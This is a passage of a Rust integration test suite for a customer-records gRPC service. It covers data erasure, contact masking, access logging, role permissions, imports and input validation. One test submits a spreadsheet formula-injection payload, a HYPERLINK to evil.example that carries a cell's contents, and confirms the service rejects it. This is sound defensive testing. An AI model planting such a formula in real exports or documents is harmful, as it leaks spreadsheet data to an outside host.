    let approval = app.erase_customer(&cust.id, "PIPL art. 47 request #12").await;
    assert_eq!(approval.state, pb::ApprovalState::Approved as i32);
    let erased = admin
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(erased.lifecycle_status, pb::LifecycleStatus::Erased as i32);
    assert_eq!(erased.contacts[0].name, "[erased]");
    assert!(erased.contacts[0].mobile.is_empty() && erased.contacts[0].email.is_empty());
    assert!(erased.tags.is_empty());
    assert_eq!(erased.uscc, uscc(70), "the company record accounting law needs is kept");
    let raw = sqlx::query("SELECT COUNT(*) FROM contacts WHERE mobile IS NOT NULL OR email IS NOT NULL")
        .fetch_one(&app.raw)
        .await
        .unwrap();
    assert_eq!(raw.get::<i64, _>(0), 0);
    // Crypto-shredding: the customer's data key is destroyed with what it
    // sealed, so no copy of the database (or a backup) opens it again.
    for table in ["customer_keys", "tax_profiles"] {
        let n: (i64,) = sqlx::query_as(&format!("SELECT COUNT(*) FROM {table} WHERE customer_id = $1"))
            .bind(&cust.id)
            .fetch_one(&app.raw)
            .await
            .unwrap();
        assert_eq!(n.0, 0, "{table} keeps nothing of the erased customer");
    }
    let gone = admin
        .get_tax_profile(pb::GetTaxProfileRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap_err();
    assert_eq!(gone.code(), Code::FailedPrecondition);

    let locked = app
        .agent()
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(pb::Customer { id: cust.id.clone(), company_name: "復活".into(), ..Default::default() }),
            update_mask: Some(prost_types::FieldMask { paths: vec!["company_name".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap_err();
    assert_eq!(locked.code(), Code::FailedPrecondition);
    let trail = app
        .client(Role::Auditor)
        .list_audit_entries(pb::ListAuditEntriesRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert!(trail.entries.iter().any(|e| e.action == "customer.erase" && e.purpose == "PIPL art. 47 request #12"));
}

async fn follow_ups_are_scheduled_listed_and_recorded(app: TestApp) {
    let mut c = app.agent();
    let a = create(&app, "回訪甲", 80).await;
    let b = create(&app, "回訪乙", 81).await;
    let plan =
        c.get_follow_up_plan(pb::GetFollowUpPlanRequest { customer_id: a.id.clone() }).await.unwrap().into_inner();
    assert_eq!(plan.owner, "staff-9", "the account manager owns the default plan");
    assert_eq!(plan.cycle_days, 30);

    c.set_follow_up_plan(pb::SetFollowUpPlanRequest {
        customer_id: a.id.clone(),
        owner: "staff-1".into(),
        cycle_days: 14,
        next_due_date: "2026-01-10".into(),
        active: true,
    })
    .await
    .unwrap();
    c.set_follow_up_plan(pb::SetFollowUpPlanRequest {
        customer_id: b.id.clone(),
        owner: "staff-2".into(),
        cycle_days: 0,
        next_due_date: "2026-01-05".into(),
        active: true,
    })
    .await
    .unwrap();
    let due = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest { due_by: "2026-01-31".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    let names: Vec<_> = due.plans.iter().map(|p| p.company_name.as_str()).collect();
    assert_eq!(names, vec!["回訪乙", "回訪甲"], "earliest due first");
    let mine = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest {
            due_by: "2026-01-31".into(),
            owner: "staff-1".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(mine.plans.len(), 1);
    let early = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest { due_by: "2026-01-06".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(early.plans.len(), 1);
    let paged = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest {
            due_by: "2026-01-31".into(),
            page_size: 1,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    let page2 = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest {
            due_by: "2026-01-31".into(),
            page_size: 1,
            page_token: paged.next_page_token.clone(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(page2.plans[0].company_name, "回訪甲");

    let visit = c
        .record_follow_up_visit(pb::RecordFollowUpVisitRequest {
            visit: Some(pb::FollowUpVisit {
                customer_id: a.id.clone(),
                visit_date: "2026-01-09".into(),
                channel: kefu_proto::common::v1::Channel::Phone as i32,
                outcome: "satisfied with monthly filing".into(),
                satisfaction: 5,
                ..Default::default()
            }),
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(visit.next_due_date, "2026-01-23", "visit date + 14-day cycle");
    let due = c
        .list_due_follow_ups(pb::ListDueFollowUpsRequest { due_by: "2026-01-20".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert!(due.plans.iter().all(|p| p.customer_id != a.id), "visited customer no longer due");

    let bad = c
        .record_follow_up_visit(pb::RecordFollowUpVisitRequest {
            visit: Some(pb::FollowUpVisit {
                customer_id: a.id.clone(),
                outcome: "x".into(),
                satisfaction: 9,
                visit_date: "2026-13-01".into(),
                ..Default::default()
            }),
        })
        .await
        .unwrap_err();
    let f = violations(&bad);
    assert!(f.contains(&"visit.satisfaction".to_string()) && f.contains(&"visit.visit_date".to_string()), "{f:?}");
    let visits = c
        .list_follow_up_visits(pb::ListFollowUpVisitsRequest { customer_id: a.id.clone() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(visits.visits.len(), 1);
}

async fn greetings_list_targets_and_never_duplicate(app: TestApp) {
    let mut c = app.agent();
    let yes = create(&app, "問候甲", 90).await;
    let mut no = new_customer("不問候", &uscc(91));
    no.customer.as_mut().unwrap().preferences.as_mut().unwrap().greeting_opt_in = false;
    c.create_customer(no).await.unwrap();
    let mut email = new_customer("郵件問候", &uscc(92));
    email.customer.as_mut().unwrap().preferences.as_mut().unwrap().preferred_channel =
        kefu_proto::common::v1::Channel::Email as i32;
    let email = c.create_customer(email).await.unwrap().into_inner();

    let fest = c.list_festivals(pb::ListFestivalsRequest { year: 2026 }).await.unwrap().into_inner();
    let sf = fest.festivals.iter().find(|f| f.festival == pb::Festival::SpringFestival as i32).unwrap();
    assert_eq!(sf.date, "2026-02-17");
    let ma = fest.festivals.iter().find(|f| f.festival == pb::Festival::MidAutumn as i32).unwrap();
    assert_eq!(ma.date, "2026-09-25");
    assert_eq!(fest.festivals.len(), 8);
    let out_of_range = c.list_festivals(pb::ListFestivalsRequest { year: 1700 }).await.unwrap_err();
    assert_eq!(out_of_range.code(), Code::InvalidArgument);

    let req = |pending_only| pb::ListGreetingTargetsRequest {
        festival: pb::Festival::MidAutumn as i32,
        year: 2026,
        pending_only,
        ..Default::default()
    };
    // The system that sends greetings reads the addresses; a person sees
    // them masked.
    let masked = c.list_greeting_targets(req(false)).await.unwrap().into_inner();
    assert!(masked.targets.iter().all(|t| !t.contact_address.contains("wang")), "{masked:?}");
    let targets = app.client(Role::Service).list_greeting_targets(req(false)).await.unwrap().into_inner();
    assert_eq!(targets.festival_date.unwrap().date, "2026-09-25");
    assert_eq!(targets.targets.len(), 2, "only opted-in customers");
    let t = targets.targets.iter().find(|t| t.customer_id == yes.id).unwrap();
    assert_eq!(t.preferred_channel, kefu_proto::common::v1::Channel::Wechat as i32);
    assert_eq!(t.contact_address, "wangfang_cfo");
    let e = targets.targets.iter().find(|t| t.customer_id == email.id).unwrap();
    assert_eq!(e.contact_address, "wang@example.cn");

    let mark = pb::MarkGreetingSentRequest {
        customer_id: yes.id.clone(),
        festival: pb::Festival::MidAutumn as i32,
        year: 2026,
        channel: kefu_proto::common::v1::Channel::Wechat as i32,
    };
    assert!(c.mark_greeting_sent(mark.clone()).await.unwrap().into_inner().newly_marked);
    assert!(!c.mark_greeting_sent(mark).await.unwrap().into_inner().newly_marked, "second mark changes nothing");
    let n = sqlx::query("SELECT COUNT(*) FROM greetings_sent").fetch_one(&app.raw).await.unwrap().get::<i64, _>(0);
    assert_eq!(n, 1);
    let pending = c.list_greeting_targets(req(true)).await.unwrap().into_inner();
    assert_eq!(pending.targets.len(), 1);
    assert_eq!(pending.targets[0].customer_id, email.id);
    let all = c.list_greeting_targets(req(false)).await.unwrap().into_inner();
    assert!(all.targets.iter().find(|t| t.customer_id == yes.id).unwrap().already_sent);
    let bad = c.list_greeting_targets(pb::ListGreetingTargetsRequest::default()).await.unwrap_err();
    assert!(violations(&bad).contains(&"festival".to_string()));
}

async fn import_reports_bad_rows_and_reruns_create_nothing(app: TestApp) {
    let rows = || {
        let good = |line: i64, name: &str, code: String| pb::ImportCustomerRow {
            line,
            customer: new_customer(name, &code).customer,
            primary_contact: Some(pb::Contact {
                name: "聯繫人".into(),
                mobile: "13800138000".into(),
                ..Default::default()
            }),
        };
        vec![
            good(2, "匯入甲", uscc(300)),
            good(3, "匯入乙", uscc(301)),
            good(4, "壞的", "123".into()),
            pb::ImportCustomerRow { line: 5, customer: None, primary_contact: None },
            good(6, "匯入丙", uscc(302)),
        ]
    };
    let mut admin = app.client(Role::Admin);
    let first = admin.import_customers(futures::stream::iter(rows())).await.unwrap().into_inner();
    assert_eq!((first.rows_received, first.created, first.unchanged), (5, 3, 0));
    let lines: Vec<i64> = first.errors.iter().map(|e| e.line).collect();
    assert_eq!(lines, vec![4, 5]);
    assert_eq!(first.rejected, 2);
    assert!(first.errors[0].reason.contains("uscc"), "{}", first.errors[0].reason);

    let again = admin.import_customers(futures::stream::iter(rows())).await.unwrap().into_inner();
    assert_eq!((again.created, again.unchanged), (0, 3));
    assert_eq!(count_customers(&app).await, 3);

    let denied = app.agent().import_customers(futures::stream::iter(rows())).await.unwrap_err();
    assert_eq!(denied.code(), Code::PermissionDenied);
}

async fn an_import_of_many_bad_rows_counts_them_all_and_lists_the_first_thousand(app: TestApp) {
    let bad = (0..1_500).map(|i| pb::ImportCustomerRow {
        line: i + 2,
        customer: new_customer("壞的", "123").customer,
        primary_contact: None,
    });
    let good = pb::ImportCustomerRow {
        line: 1_502,
        customer: new_customer("匯入丁", &uscc(303)).customer,
        primary_contact: None,
    };
    let out =
        app.client(Role::Admin).import_customers(futures::stream::iter(bad.chain([good]))).await.unwrap().into_inner();
    assert_eq!((out.rows_received, out.created, out.rejected), (1_501, 1, 1_500));
    assert_eq!(out.errors.len(), kefu_customers::api::IMPORT_ERRORS_LISTED);
    assert_eq!((out.errors[0].line, out.errors[999].line), (2, 1_001), "the first rows refused are listed");
}

/// An agent pulling the customer book gets masked contacts from lists; each
/// customer read in the clear is one logged GetCustomer; auditors see masked
/// details and the log; systems (service role) list in the clear.
async fn lists_mask_contacts_and_every_clear_read_is_in_the_access_log(app: TestApp) {
    let cust = create(&app, "通訊錄", 80).await;
    let by_system = app.client(Role::Service).list_customers(pb::ListCustomersRequest::default()).await.unwrap();
    let clear = by_system.into_inner().customers.into_iter().find(|c| c.id == cust.id).unwrap();
    let contact = &clear.contacts[0];
    assert!(!contact.mobile.is_empty() && !contact.email.is_empty(), "the fixture has a phone and an email");
    let listed = app.agent().list_customers(pb::ListCustomersRequest::default()).await.unwrap().into_inner();
    let c = &listed.customers.iter().find(|c| c.id == cust.id).unwrap().contacts[0];
    assert_ne!(c.mobile, contact.mobile, "lists mask phones: {}", c.mobile);
    assert!(c.mobile.starts_with("****") && c.mobile.ends_with(&contact.mobile[7..]), "last four only: {c:?}");
    assert!(c.email.contains("***@"), "{c:?}");
    // Nor does any other answer carry them: an update that changes nothing.
    let updated = app
        .agent()
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(pb::Customer { id: cust.id.clone(), tags: cust.tags.clone(), ..Default::default() }),
            update_mask: Some(prost_types::FieldMask { paths: vec!["tags".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap()
        .into_inner();
    assert_ne!(updated.contacts[0].mobile, contact.mobile, "an update's answer masks contacts too");
    assert_eq!(contact.mobile, "13800138000", "systems list in the clear");

    let got = app
        .agent()
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(got.contacts[0].mobile, contact.mobile, "an agent reads one customer in the clear");
    let mut auditor = app.client(Role::Auditor);
    let seen = auditor
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert!(seen.contacts[0].mobile.starts_with("****"), "auditors see masked details");

    let log = auditor
        .list_access_log(pb::ListAccessLogRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    let who: Vec<(&str, &str, &str)> =
        log.entries.iter().map(|e| (e.actor.as_str(), e.actor_role.as_str(), e.what.as_str())).collect();
    assert_eq!(
        who,
        vec![("agent-1", "agent", "contacts")],
        "one clear read, by the agent; masked reads are not logged"
    );
    let by_actor = auditor
        .list_access_log(pb::ListAccessLogRequest { actor: "agent-1".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_actor.entries.len(), 1);
    let denied = app.agent().list_access_log(pb::ListAccessLogRequest::default()).await.unwrap_err();
    assert_eq!(denied.code(), Code::PermissionDenied);
    let bad = auditor
        .list_access_log(pb::ListAccessLogRequest { customer_id: "not an id".into(), ..Default::default() })
        .await
        .unwrap_err();
    assert!(violations(&bad).contains(&"customer_id".to_string()), "{bad:?}");
}

/// Text that a spreadsheet would run as a formula when exported is refused,
/// naming each field, and nothing is stored.
async fn values_a_spreadsheet_would_run_as_formulas_are_refused(app: TestApp) {
    let mut req = new_customer("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", &uscc(90));
    let c = req.customer.as_mut().unwrap();
    c.region = "+1+1".into();
    c.tags = vec!["ok".into(), "@SUM(1)".into()];
    req.contacts[0].name = "-2+3".into();
    let err = app.agent().create_customer(req).await.unwrap_err();
    let named = violations(&err);
    for field in ["customer.company_name", "customer.region", "customer.tags[1]", "contacts[0].name"] {
        assert!(named.contains(&field.to_string()), "{field} in {named:?}");
    }
    assert!(err.message().contains("formula"), "{}", err.message());
    assert_eq!(count_customers(&app).await, 0, "nothing stored");
    // The same characters inside a value are fine.
    let fine = new_customer("A=B 咨询 (上海) 有限公司", &uscc(91));
    app.agent().create_customer(fine).await.unwrap();
}

async fn missing_and_bad_tokens_are_unauthenticated(app: TestApp) {
    let req = pb::ListCustomersRequest::default();
    let none = app.client_with_token(None).list_customers(req.clone()).await.unwrap_err();
    assert_eq!(none.code(), Code::Unauthenticated);
    let junk = app.client_with_token(Some("junk")).list_customers(req.clone()).await.unwrap_err();
    assert_eq!(junk.code(), Code::Unauthenticated);
    let other = kefu_kit::auth::TokenSigner::from_entry(&kefu_kit::keys::KeyEntry::generate("test")).unwrap();
    let foreign = other.mint("x", &[Role::Admin], std::time::Duration::from_secs(60)).unwrap();
    let err = app.client_with_token(Some(&foreign)).list_customers(req).await.unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);

    // Probes and discovery need no token.
    let channel = kefu_kit::client::channel(&app.addr).unwrap();
    let mut health = tonic_health::pb::health_client::HealthClient::new(channel);
    let status = health
        .check(tonic_health::pb::HealthCheckRequest { service: "kefu.customers.v1.CustomerService".into() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(status.status(), tonic_health::pb::health_check_response::ServingStatus::Serving);
}

/// Every RPC, called by every role: the roles outside its list get
/// PERMISSION_DENIED, the roles inside get past authorisation (to a
/// validation or not-found answer on these empty requests).
async fn every_rpc_checks_the_callers_role(app: TestApp) {
    use Role::*;
    const W: &[Role] = &[Agent, Supervisor, Admin, Service];
    const R: &[Role] = &[Agent, Supervisor, Admin, Auditor, Service];
    let matrix: Vec<(&str, &[Role])> = vec![
        ("CreateCustomer", W),
        ("GetCustomer", R),
        ("UpdateCustomer", W),
        ("ListCustomers", R),
        ("ArchiveCustomer", &[Supervisor, Admin]),
        ("ImportCustomers", &[Supervisor, Admin, Service]),
        ("CreateContact", W),
        ("UpdateContact", W),
        ("DeleteContact", W),
        ("UpdateTaxProfile", W),
        ("GetTaxProfile", R),
        ("CreateConsent", W),
        ("RevokeConsent", W),
        ("ListConsents", R),
        ("ExportCustomerData", &[Supervisor, Admin, Service]),
        ("EraseCustomer", &[Supervisor, Admin]),
        ("ProposeChange", W),
        ("GetApproval", R),
        ("ListApprovals", R),
        ("ApproveChange", &[Supervisor, Admin]),
        ("RejectChange", &[Supervisor, Admin]),
        ("WithdrawChange", W),
        ("ListAuditEntries", &[Auditor, Admin]),
        ("VerifyAuditChain", &[Auditor, Admin]),
        ("SetFollowUpPlan", W),
        ("GetFollowUpPlan", W),
        ("ListDueFollowUps", W),
        ("RecordFollowUpVisit", W),
        ("ListFollowUpVisits", R),
        ("ListFestivals", &Role::ALL),
        ("ListGreetingTargets", W),
        ("MarkGreetingSent", W),
    ];
    let id = uuid::Uuid::now_v7().to_string();
    for (rpc, allowed) in &matrix {
        for role in Role::ALL {
            let mut c = app.client(role);
            let result: Result<(), tonic::Status> = match *rpc {
                "CreateCustomer" => c.create_customer(pb::CreateCustomerRequest::default()).await.map(|_| ()),
                "GetCustomer" => {
                    c.get_customer(pb::GetCustomerRequest { id: id.clone(), omit_contacts: false }).await.map(|_| ())
                }
                "UpdateCustomer" => c.update_customer(pb::UpdateCustomerRequest::default()).await.map(|_| ()),
                "ListCustomers" => c.list_customers(pb::ListCustomersRequest::default()).await.map(|_| ()),
                "ArchiveCustomer" => c
                    .archive_customer(pb::ArchiveCustomerRequest { id: id.clone(), etag: String::new() })
                    .await
                    .map(|_| ()),
                "ImportCustomers" => {
                    c.import_customers(futures::stream::iter(Vec::<pb::ImportCustomerRow>::new())).await.map(|_| ())
                }
                "CreateContact" => c.create_contact(pb::CreateContactRequest::default()).await.map(|_| ()),
                "UpdateContact" => c.update_contact(pb::UpdateContactRequest::default()).await.map(|_| ()),
                "DeleteContact" => c.delete_contact(pb::DeleteContactRequest::default()).await.map(|_| ()),
                "UpdateTaxProfile" => c.update_tax_profile(pb::UpdateTaxProfileRequest::default()).await.map(|_| ()),
                "GetTaxProfile" => c
                    .get_tax_profile(pb::GetTaxProfileRequest { customer_id: id.clone(), ..Default::default() })
                    .await
                    .map(|_| ()),
                "CreateConsent" => c.create_consent(pb::CreateConsentRequest::default()).await.map(|_| ()),
                "RevokeConsent" => c.revoke_consent(pb::RevokeConsentRequest::default()).await.map(|_| ()),
                "ListConsents" => {
                    c.list_consents(pb::ListConsentsRequest { customer_id: id.clone() }).await.map(|_| ())
                }
                "ExportCustomerData" => {
                    c.export_customer_data(pb::ExportCustomerDataRequest::default()).await.map(|_| ())
                }
                "EraseCustomer" => c.erase_customer(pb::EraseCustomerRequest::default()).await.map(|_| ()),
                "ProposeChange" => c.propose_change(pb::ProposeChangeRequest::default()).await.map(|_| ()),
                "GetApproval" => c.get_approval(pb::GetApprovalRequest { id: id.clone() }).await.map(|_| ()),
                "ListApprovals" => c.list_approvals(pb::ListApprovalsRequest::default()).await.map(|_| ()),
                "ApproveChange" => c.approve_change(pb::ApproveChangeRequest::default()).await.map(|_| ()),
                "RejectChange" => c.reject_change(pb::RejectChangeRequest::default()).await.map(|_| ()),
                "WithdrawChange" => c.withdraw_change(pb::WithdrawChangeRequest::default()).await.map(|_| ()),
                "ListAuditEntries" => c.list_audit_entries(pb::ListAuditEntriesRequest::default()).await.map(|_| ()),
                "VerifyAuditChain" => c.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.map(|_| ()),
                "SetFollowUpPlan" => c.set_follow_up_plan(pb::SetFollowUpPlanRequest::default()).await.map(|_| ()),
                "GetFollowUpPlan" => {
                    c.get_follow_up_plan(pb::GetFollowUpPlanRequest { customer_id: id.clone() }).await.map(|_| ())
                }
                "ListDueFollowUps" => c.list_due_follow_ups(pb::ListDueFollowUpsRequest::default()).await.map(|_| ()),
                "RecordFollowUpVisit" => {
                    c.record_follow_up_visit(pb::RecordFollowUpVisitRequest::default()).await.map(|_| ())
                }
                "ListFollowUpVisits" => {
                    c.list_follow_up_visits(pb::ListFollowUpVisitsRequest { customer_id: id.clone() }).await.map(|_| ())
                }
                "ListFestivals" => c.list_festivals(pb::ListFestivalsRequest { year: 2026 }).await.map(|_| ()),
                "ListGreetingTargets" => {
                    c.list_greeting_targets(pb::ListGreetingTargetsRequest::default()).await.map(|_| ())
                }
                "MarkGreetingSent" => c.mark_greeting_sent(pb::MarkGreetingSentRequest::default()).await.map(|_| ()),
                other => panic!("no call for {other}"),
            };
            let denied = matches!(&result, Err(s) if s.code() == Code::PermissionDenied);
            assert_eq!(denied, !allowed.contains(&role), "{rpc} as {role}: {result:?}");
        }
    }
    assert_eq!(matrix.len(), 32, "every RPC of CustomerService is in the matrix");
    assert_eq!(count_customers(&app).await, 0, "nothing was written");
}

async fn concurrent_retries_of_one_create_make_one_customer(app: TestApp) {
    let mut req = new_customer("併發重試有限公司", &uscc(400));
    req.request_id = "retry-8".into();
    let mut calls = Vec::new();
    for _ in 0..8 {
        let mut c = app.agent();
        let req = req.clone();
        calls.push(tokio::spawn(async move { c.create_customer(req).await }));
    }
    let mut ids = Vec::new();
    for call in calls {
        ids.push(call.await.unwrap().expect("every retry succeeds").into_inner().id);
    }
    assert!(ids.iter().all(|id| *id == ids[0]), "one customer for every retry: {ids:?}");
    assert_eq!(count_customers(&app).await, 1);

    let mut other = new_customer("另一家公司", &uscc(401));
    other.request_id = "retry-8".into();
    let reused = app.agent().create_customer(other).await.unwrap_err();
    assert_eq!(reused.code(), Code::InvalidArgument);
    assert_eq!(violations(&reused), vec!["request_id".to_string()]);
    assert_eq!(count_customers(&app).await, 1, "a reused request id creates nothing");
}

async fn a_request_id_from_before_the_kit_table_answers_with_its_customer(app: TestApp) {
    let mut req = new_customer("升級前客戶有限公司", &uscc(402));
    req.request_id = "legacy-1".into();
    let first = app.agent().create_customer(req.clone()).await.unwrap().into_inner();
    // As a customer stored before request ids were claimed in
    // kit_idempotency: its request id is only on the customer row.
    sqlx::query("DELETE FROM kit_idempotency").execute(&app.raw).await.unwrap();
    let conflict = app.agent().create_customer(req.clone()).await.unwrap_err();
    assert_eq!(conflict.code(), Code::AlreadyExists, "without the back-fill a late retry conflicts");
    sqlx::query(include_str!("../migrations/0002_request_ids_to_kit.sql")).execute(&app.raw).await.unwrap();
    let again = app.agent().create_customer(req).await.unwrap().into_inner();
    assert_eq!(again.id, first.id, "a late retry answers with the customer it made");
    assert_eq!(count_customers(&app).await, 1);
}

async fn out_of_range_timestamps_name_the_field(app: TestApp) {
    let cust = create(&app, "時間界限", 410).await;
    let mut c = app.agent();
    for seconds in [9_223_372_036_854_776, i64::MAX, 1 << 62, -1] {
        for field in ["grant_time", "expire_time"] {
            let t = Some(prost_types::Timestamp { seconds, nanos: 0 });
            let mut consent = pb::Consent {
                customer_id: cust.id.clone(),
                purpose: "monthly filing".into(),
                data_categories: vec![pb::DataCategory::Profile as i32],
                ..Default::default()
            };
            if field == "grant_time" {
                consent.grant_time = t;
            } else {
                consent.expire_time = t;
            }
            let err = c.create_consent(pb::CreateConsentRequest { consent: Some(consent) }).await.unwrap_err();
            assert_eq!(err.code(), Code::InvalidArgument, "{field} = {seconds}s");
            assert_eq!(violations(&err), vec![format!("consent.{field}")], "{field} = {seconds}s");
            assert!(
                err.message().contains("1970-01-01T00:00:00Z..9999-12-31T23:59:59Z"),
                "the accepted range is stated: {}",
                err.message()
            );
        }
    }
    let listed = c.list_consents(pb::ListConsentsRequest { customer_id: cust.id.clone() }).await.unwrap().into_inner();
    assert!(listed.consents.is_empty());
}

async fn control_characters_and_unbounded_tags_are_refused(app: TestApp) {
    let mut c = app.agent();
    let mut req = new_customer("示例\0科技", &uscc(420));
    req.customer.as_mut().unwrap().business_scope = "代理記賬\u{1b}[31m".into();
    req.contacts[0].name = "王\u{1b}芳".into();
    let err = c.create_customer(req).await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    let fields = violations(&err);
    for f in ["customer.company_name", "customer.business_scope", "contacts[0].name"] {
        assert!(fields.contains(&f.to_string()), "{f} missing from {fields:?}");
    }
    assert!(err.message().contains("U+0000") && err.message().contains("U+001B"), "{}", err.message());

    let mut many = new_customer("標籤太多", &uscc(421));
    many.customer.as_mut().unwrap().tags = (0..3000).map(|i| format!("t{i}")).collect();
    let err = c.create_customer(many).await.unwrap_err();
    assert_eq!(violations(&err), vec!["customer.tags".to_string()]);

    let mut long = new_customer("標籤太長", &uscc(422));
    long.customer.as_mut().unwrap().tags = vec!["ok".into(), "x".repeat(33)];
    let err = c.create_customer(long).await.unwrap_err();
    assert_eq!(violations(&err), vec!["customer.tags[1]".to_string()]);

    let cust = create(&app, "標籤更新", 423).await;
    let err = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(pb::Customer { id: cust.id.clone(), tags: vec!["y".repeat(33)], ..Default::default() }),
            update_mask: Some(prost_types::FieldMask { paths: vec!["tags".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap_err();
    assert_eq!(violations(&err), vec!["customer.tags[0]".to_string()]);

    // Search filters are checked like the fields they search.
    let err = c
        .list_customers(pb::ListCustomersRequest {
            tag: "a\0b".into(),
            account_manager: "x".repeat(65),
            ..Default::default()
        })
        .await
        .unwrap_err();
    let fields = violations(&err);
    assert!(fields.contains(&"tag".to_string()) && fields.contains(&"account_manager".to_string()), "{fields:?}");
    assert_eq!(count_customers(&app).await, 1, "only the valid customer was written");
}

async fn violations_of_the_customer_and_its_contacts_come_back_together(app: TestApp) {
    let mut req = new_customer("", "91110000600037341A");
    req.contacts[0].mobile = "12345".into();
    req.contacts.push(pb::Contact { email: "not-an-email".into(), ..Default::default() });
    let err = app.agent().create_customer(req).await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    let fields = violations(&err);
    for f in ["customer.company_name", "customer.uscc", "contacts[0].mobile", "contacts[1].name", "contacts[1].email"] {
        assert!(fields.contains(&f.to_string()), "{f} missing from {fields:?}");
    }
    assert_eq!(count_customers(&app).await, 0);
}

async fn unique_clashes_speak_the_domains_words(app: TestApp) {
    let mut c = app.agent();
    let first = create(&app, "重名公司", 430).await;
    let uscc_clash = c.create_customer(new_customer("別名公司", &uscc(430))).await.unwrap_err();
    assert_eq!(uscc_clash.code(), Code::AlreadyExists);
    assert!(uscc_clash.message().contains("USCC"), "{}", uscc_clash.message());

    let other = create(&app, "另一公司", 431).await;
    let moved = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(pb::Customer { id: other.id.clone(), uscc: first.uscc.clone(), ..Default::default() }),
            update_mask: Some(prost_types::FieldMask { paths: vec!["uscc".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap_err();
    assert_eq!(moved.code(), Code::AlreadyExists);
    assert!(moved.message().contains("USCC"), "{}", moved.message());

    // A unique index the service does not know, added by hand: its clash is
    // a conflict, and not reported as a USCC clash.
    sqlx::query("CREATE UNIQUE INDEX customers_name_by_hand ON customers (company_name_lower)")
        .execute(&app.raw)
        .await
        .unwrap();
    let name_clash = c.create_customer(new_customer("重名公司", &uscc(432))).await.unwrap_err();
    assert_eq!(name_clash.code(), Code::AlreadyExists);
    assert!(!name_clash.message().contains("USCC"), "{}", name_clash.message());

    for status in [&uscc_clash, &moved, &name_clash] {
        let m = status.message().to_lowercase();
        assert!(!m.contains("constraint") && !m.contains("unique") && !m.contains("customers_"), "{m}");
    }
    assert_eq!(count_customers(&app).await, 2);
}

async fn unknown_enum_values_list_the_valid_names(app: TestApp) {
    let mut c = app.agent();
    let mut req = new_customer("列舉值", &uscc(440));
    req.customer.as_mut().unwrap().taxpayer_type = 99;
    let err = c.create_customer(req).await.unwrap_err();
    assert_eq!(violations(&err), vec!["customer.taxpayer_type".to_string()]);
    assert!(
        err.message().contains("TAXPAYER_TYPE_GENERAL") && err.message().contains("TAXPAYER_TYPE_SMALL_SCALE"),
        "{}",
        err.message()
    );

    let err = c.list_customers(pb::ListCustomersRequest { service_tier: 42, ..Default::default() }).await.unwrap_err();
    assert_eq!(violations(&err), vec!["service_tier".to_string()]);
    assert!(err.message().contains("SERVICE_TIER_VIP"), "{}", err.message());

    let err = c
        .list_greeting_targets(pb::ListGreetingTargetsRequest { festival: 77, year: 2026, ..Default::default() })
        .await
        .unwrap_err();
    assert!(err.message().contains("FESTIVAL_MID_AUTUMN"), "{}", err.message());
}
